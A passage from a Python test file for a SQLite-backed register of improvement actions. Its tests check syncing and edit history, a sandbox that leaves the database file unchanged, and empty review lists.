        history = register.history(f"{RUN}-a1")
    assert result.added == [] and result.updated == [f"{RUN}-a1"]
    assert len(entries) == 3
    assert entries.loc[f"{RUN}-a1", "base_value"] == 500.0
    assert entries.loc[f"{RUN}-a2", "base_value"] == 193.4  # approved: a person's now
    changed = history[history["field"] == "base_value"]
    assert changed[["old", "new"]].values.tolist() == [["566.7", "500"]]
    with open_register(seeded, writer=RUN) as register:  # the same data again: nothing to do
        again = sync_actions(register, ACTIONS, run_id=RUN, scorecard=card, **Q2)
    assert again.added == [] and again.updated == []


def test_a_sandbox_holds_the_registers_entries_and_leaves_the_file_byte_identical(seeded, db):
    from csi_helpers.register.sandbox import sandbox

    with open_register(seeded) as register:
        register.update(f"{RUN}-a2", status="approved", by="ops lead")
        real = register.entries()
    before = db.read_bytes()
    with sandbox(seeded, writer="trial") as copy:
        copied = copy.entries()
        copy.update(f"{RUN}-a1", status="withdrawn", by="trial")
        sync_actions(copy, ACTIONS.assign(title=ACTIONS["title"] + " (trial)"), run_id="trial",
                     scorecard=CARD, **Q2)  # fmt: skip
        assert len(copy.entries()) == 6
    assert db.read_bytes() == before
    columns = ["id", "title", "status", "base_value", "review_date", "baseline_run_id"]
    pd.testing.assert_frame_equal(copied[columns], real[columns])


def test_a_sandbox_of_a_register_not_made_yet_is_empty_and_makes_none(tmp_path):
    from csi_helpers.register.sandbox import sandbox

    url = sqlite_url(tmp_path / "registers" / "new.sqlite")
    with sandbox(url, writer="trial") as copy:
        assert copy.entries().empty
    assert not (tmp_path / "registers").exists()


def test_an_empty_register_has_nothing_due_for_review(db):
    with open_register(sqlite_url(db), create=True) as register:
        due = register.due_for_review(date(2026, 9, 30))
    assert due.empty and "base_value" in due.columns
